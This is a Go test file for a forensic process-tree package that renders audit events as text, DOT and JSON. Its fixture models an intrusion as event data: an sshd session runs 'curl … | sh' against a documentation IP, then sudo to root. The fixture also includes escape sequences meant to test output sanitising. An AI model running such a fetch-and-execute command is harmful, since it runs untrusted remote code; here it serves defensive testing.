package ptree_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/evidence"
	"github.com/tuxtrail/tuxtrail/ptree"
	"github.com/tuxtrail/tuxtrail/querytime"
)

var update = flag.Bool("update", false, "write the golden files anew")

func golden(t *testing.T, name, got string) {
	t.Helper()
	name = filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.MkdirAll("testdata", 0o755))
		require.NoError(t, os.WriteFile(name, []byte(got), 0o600))
	}
	want, err := os.ReadFile(name)
	require.NoError(t, err)
	assert.Equal(t, string(want), got)
}

// story is a tree with one of everything.
func story() []ptree.Event {
	cmd := func(ms, pid, ppid int, user string, argv ...string) ptree.Event {
		e := exec(ms, pid, ppid, "/usr/bin/"+argv[0])
		e.Argv, e.User, e.Session = argv, user, "8"
		return e
	}
	daemon := login("8", seen(0, 100, 50, "/usr/sbin/sshd"))
	daemon.User, daemon.Cmdline = "root", "sshd: deploy [priv]"
	ev := []ptree.Event{
		daemon,
		cmd(1000, 101, 100, "deploy", "bash", "-c", "curl -s http://198.51.100.7/x | sh; evil\x1b[2J\n<b>\xff"),
		cmd(1100, 102, 101, "deploy", "curl", "-s", "http://198.51.100.7/x"),
		cmd(1100, 103, 101, "deploy", "env", "sh"),
		cmd(1101, 103, 101, "deploy", "sh"),
		cmd(1200, 104, 103, "deploy", "sudo", "id"),
		cmd(1300, 105, 104, "root", "id"),
		cmd(86_400_000, 120, 101, "deploy", "sleep", "9"),
		cmd(86_400_100, 122, 121, "deploy", "nohup", "\"x\" \\"),
	}
	for i := range 7 {
		ev = append(ev, cmd(86_401_000+i, 130+i, 101, "deploy", "true"))
	}
	ev = append(ev, ptree.Event{Kind: ptree.Exit, Time: at(86_402_000), PID: 122, ExitCode: 3, HasExitCode: true})
	ev[1].Refs = []evidence.Ref{{File: "audit.log", Line: 7, Offset: 700, Length: 70}}
	return ev
}

func draw(t testing.TB, tr *ptree.Tree, o ptree.TextOptions) string {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, tr.WriteText(&b, o))
	return b.String()
}

func TestWriteText(t *testing.T) {
	tr := ptree.Build(story(), ptree.Options{})
	golden(t, "story.txt", draw(t, tr, ptree.TextOptions{})+
		"\n# no folding, ASCII, narrow, another zone\n"+draw(t, tr, ptree.TextOptions{NoFold: true, ASCII: true, Width: 50, Location: time.FixedZone("", 3600)})+
		"\n# three children, three levels\n"+draw(t, tr, ptree.TextOptions{MaxChildren: 3, MaxDepth: 3, NoFold: true})+
		"\n# four lines\n"+draw(t, tr, ptree.TextOptions{MaxLines: 4}))
}

func TestWriteTextOfManyAndDeep(t *testing.T) {
	var ev []ptree.Event
	for i := range 5000 { // a chain
		ev = append(ev, exec(i, 10+i, 9+i, "/bin/sh"))
	}
	for i := range 3000 { // and a fan of different ones
		ev = append(ev, exec(6000+i, 100_000+i, 5, fmt.Sprintf("/bin/x%d", i)))
	}
	tr := ptree.Build(ev, ptree.Options{})
	check(t, tr)
	assert.Equal(t, 5001, tr.Summary().LargestDepth)
	text := draw(t, tr, ptree.TextOptions{})
	assert.Contains(t, text, "… 4961 processes below")
	assert.Contains(t, text, "└─ … 2900 processes more")
	assert.Less(t, strings.Count(text, "\n"), 160)
	deep := tr.Process(5001)
	assert.Len(t, deep.Lineage(), 5001)
	assert.Equal(t, 64, strings.Count(deep.Path(), "["))
	assert.Contains(t, deep.Path(), "/…/")
	assert.Equal(t, "sh[10]", strings.Split(deep.Path(), "/")[1])
	assert.Equal(t, 9, deep.Root().PID)
}

func TestDOT(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, ptree.Build(story(), ptree.Options{}).WriteDOT(&b))
	golden(t, "story.dot", b.String())
}

func TestJSON(t *testing.T) {
	tr := ptree.Build(story(), ptree.Options{})
	b, err := json.MarshalIndent(tr, "", " ")
	require.NoError(t, err)
	golden(t, "story.json", string(b)+"\n")
	var back struct {
		Summary   ptree.Summary
		Stats     ptree.Stats
		Processes []ptree.Record
	}
	require.NoError(t, json.Unmarshal(b, &back))
	assert.Equal(t, tr.Summary(), back.Summary)
	require.Len(t, back.Processes, tr.Len())
	for i, r := range back.Processes {
		again, err := json.Marshal(r)
		require.NoError(t, err)
		first, err := json.Marshal(tr.Process(i + 1))
		require.NoError(t, err)
		assert.JSONEq(t, string(first), string(again))
	}
}

func TestSession(t *testing.T) {
	for in, want := range map[string]string{"8": "8", "08": `"08"`, "0x3e7": `"0x3e7"`, "-1": `"-1"`, "<": `"\u003c"`, "4294967294": "4294967294"} {
		b, err := json.Marshal(ptree.Session(in))
		require.NoError(t, err)
		assert.Equal(t, want, string(b))
		var back ptree.Session
		require.NoError(t, json.Unmarshal(b, &back))
		assert.Equal(t, in, string(back))
	}
	assert.Error(t, json.Unmarshal([]byte("true"), new(ptree.Session)))
}

func TestFilter(t *testing.T) {
	tr := ptree.Build(append(story(), exec(5, 900, 1, "/usr/bin/other")), ptree.Options{})
	all := tr.Filter(ptree.Filter{})
	assert.Equal(t, paths(tr), paths(all))
	check(t, all)

	got := tr.Filter(ptree.Filter{Users: []string{"root"}, Window: querytime.Window{Start: at(1050), End: at(2000)}})
	check(t, got)
	assert.Equal(t, []string{
		"?[50]", "?[50]/sshd[100] inferred", "?[50]/sshd[100]/bash[101] observed", "?[50]/sshd[100]/bash[101]/sh[103] observed",
		"?[50]/sshd[100]/bash[101]/sh[103]/sudo[104] observed", "?[50]/sshd[100]/bash[101]/sh[103]/sudo[104]/id[105] observed",
	}, paths(got))
	for p := range got.All() {
		assert.Equal(t, p.PID != 105, p.Context, "%s", p.Path())
	}
	require.NotNil(t, got.Find("", 105, at(1300)))
	assert.Same(t, got.Process(6), got.Find("", 105, at(1300)))
	assert.Nil(t, got.Find("", 900, at(1300)), "it was left out")

	below := tr.Filter(ptree.Filter{Match: func(p *ptree.Process) bool { return p.PID == 103 }, Below: true})
	assert.Equal(t, 6, below.Len())
	assert.Equal(t, 15, tr.Filter(ptree.Filter{Sessions: []string{"8"}}).Len()-2, "with the placeholders above")
	assert.Zero(t, tr.Filter(ptree.Filter{Hosts: []string{"elsewhere"}}).Len())
	assert.Empty(t, draw(t, tr.Filter(ptree.Filter{Users: []string{"nobody"}}), ptree.TextOptions{}))
}

type failing struct{}

var errDisk = errors.New("disk full")

func (failing) Write([]byte) (int, error) { return 0, errDisk }

func TestWriteErrors(t *testing.T) {
	tr := ptree.Build(story(), ptree.Options{})
	assert.ErrorIs(t, tr.WriteText(failing{}, ptree.TextOptions{}), errDisk)
	assert.ErrorIs(t, tr.WriteDOT(failing{}), errDisk)
	assert.NoError(t, tr.WriteText(io.Discard, ptree.TextOptions{}))
}

// printed holds for whatever is shown to people.
func printed(t testing.TB, s string) {
	t.Helper()
	require.True(t, utf8.ValidString(s))
	for _, r := range s {
		require.True(t, r == '\n' || r == '\t' || unicode.IsPrint(r), "%q", r)
	}
}
